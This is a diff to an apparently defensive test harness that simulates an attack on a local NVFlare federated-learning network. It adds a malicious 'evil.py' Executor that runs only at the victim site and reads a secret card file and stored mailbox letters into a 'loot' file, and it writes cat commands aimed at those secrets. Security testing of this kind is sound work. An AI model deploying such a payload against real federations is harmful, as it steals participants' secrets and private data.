@@ -7,6 +7,7 @@ import json
 import os
 import shutil
 import sys
+import sysconfig
 import time
 from collections.abc import Callable
 from pathlib import Path
@@ -14,14 +15,14 @@ from typing import Any
 
 from loopback import LoopbackNetwork
 
-from likeset.transports.nvflare import CLASSES
+import likeset
 from likeset.transports.stores import open_store
 
 SUPER = "super@likeset.local"
 VICTIM, HOSTILE = "victim", "hostile"
 UID = 4001
 FOLDER, NAME, LETTER = "a" * 32, "0" * 64, b"a sealed letter"
-_SECONDS = 240.0
+_SECONDS = 100.0
 
 
 def wait_for(happened: Callable[[], bool]) -> None:
@@ -36,21 +37,30 @@ def submitted_by_super(net: LoopbackNetwork, folder: Path, home: Path) -> str:
     (job / "app" / "config").mkdir(parents=True)
     about = {"name": "x", "resource_spec": {}, "min_clients": 1, "deploy_map": {"app": ["server", VICTIM]}}
     (job / "meta.json").write_text(json.dumps(about))
-    for side in ("server", "client"):
-        config = {"format_version": 2, "workflows": [], "executors": [], "components": []}
+    server = {"format_version": 2, "workflows": [{"id": "evil", "path": "evil.Evil", "args": {}}], "components": []}
+    evil = {"tasks": ["*"], "executor": {"path": "evil.Evil", "args": {}}}
+    client = {"format_version": 2, "executors": [evil], "components": []}
+    for side, config in (("server", server), ("client", client)):
         (job / "app" / "config" / f"config_fed_{side}.json").write_text(json.dumps(config))
     (job / "app" / "custom").mkdir()
-    loot = folder / "loot"
-    code = f"""import os
-for path in ({str(home / "card.secret")!r}, {str(net.mailbox(VICTIM) / "out" / FOLDER / NAME)!r}):
-    try:
-        found = open(path, "rb").read().hex()
-    except OSError as error:
-        found = type(error).__name__
-    with open({str(loot)!r}, "a") as file:
-        file.write(found + "\\n")
+    loot = folder / "said" / "loot"
+    code = f"""import sys
+from nvflare.apis.executor import Executor
+
+class Evil(Executor):
+    def execute(self, *_):
+        pass
+
+if "/prod_00/{VICTIM}" in " ".join(sys.orig_argv):
+    for path in ({str(home / "card.secret")!r}, {str(net.mailbox(VICTIM) / "out" / FOLDER / NAME)!r}):
+        try:
+            found = open(path, "rb").read().decode()
+        except OSError as error:
+            found = type(error).__name__
+        with open({str(loot)!r}, "a") as file:
+            file.write(found + "\\n")
 """
-    (job / "app" / "custom" / "sitecustomize.py").write_text(code)
+    (job / "app" / "custom" / "evil.py").write_text(code)
     with net.session(SUPER) as session:
         try:
             name = session.submit_job(str(job))
@@ -66,8 +76,10 @@ def main(folder: Path) -> dict[str, Any]:
     home.mkdir(mode=0o700)
     (home / "card.secret").write_text("likeset card secret")
     (home / "card.secret").chmod(0o600)
-    loot = folder / "loot"
-    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parent), "LIKESET_ATTACK": str(folder / "said" / "x")}
+    # NVFlare's user may find another interpreter than this one's.
+    packages = [Path(__file__).parent, Path(likeset.__file__).parents[1], sysconfig.get_path("purelib")]
+    paths = os.pathsep.join(map(str, packages))
+    environment = {**os.environ, "PYTHONPATH": paths, "LIKESET_ATTACK": str(folder / "said" / "x")}
     net = LoopbackNetwork(folder / "network", (VICTIM, HOSTILE), environment, uid=UID, administrators={SUPER: "super"})
     net.provision()
     net.settle()
@@ -79,24 +91,20 @@ def main(folder: Path) -> dict[str, Any]:
     resources.write_text(json.dumps(document))
     store = open_store(f"courier://{net.mailbox(VICTIM)}")
     store.write(FOLDER, NAME, LETTER)
-    loot_folder = folder / "said"
     commands = {
         "home": f"cat {home / 'card.secret'}",
         "letters": f"cat {net.mailbox(VICTIM) / 'out' / FOLDER / NAME}",
-        "user": "id -u",
-        "write": f"touch {net.mailbox(VICTIM) / 'out' / 'x'}",
     }
-    (loot_folder / "orders.json").write_text(json.dumps({"victim": VICTIM, "commands": commands}))
+    (folder / "said" / "orders.json").write_text(json.dumps({"victim": VICTIM, "commands": commands}))
     with net:
         net.start(net.server, VICTIM)
         time.sleep(8)
         net.start(HOSTILE)
-        wait_for((loot_folder / "x").exists)
-        found: dict[str, Any] = {"site": json.loads((loot_folder / "x").read_text())}
+        wait_for((folder / "said" / "x").exists)
+        found: dict[str, Any] = {"site": json.loads((folder / "said" / "x").read_text())}
         found["super"] = submitted_by_super(net, folder, home)
-        found["loot"] = loot.read_text() if loot.exists() else ""
-    found["written"] = (net.mailbox(VICTIM) / "out" / "x").exists()
-    found["classes"] = list(CLASSES)
+        loot = folder / "said" / "loot"
+        found["loot"] = loot.read_text().splitlines() if loot.exists() else []
     return found
 
 
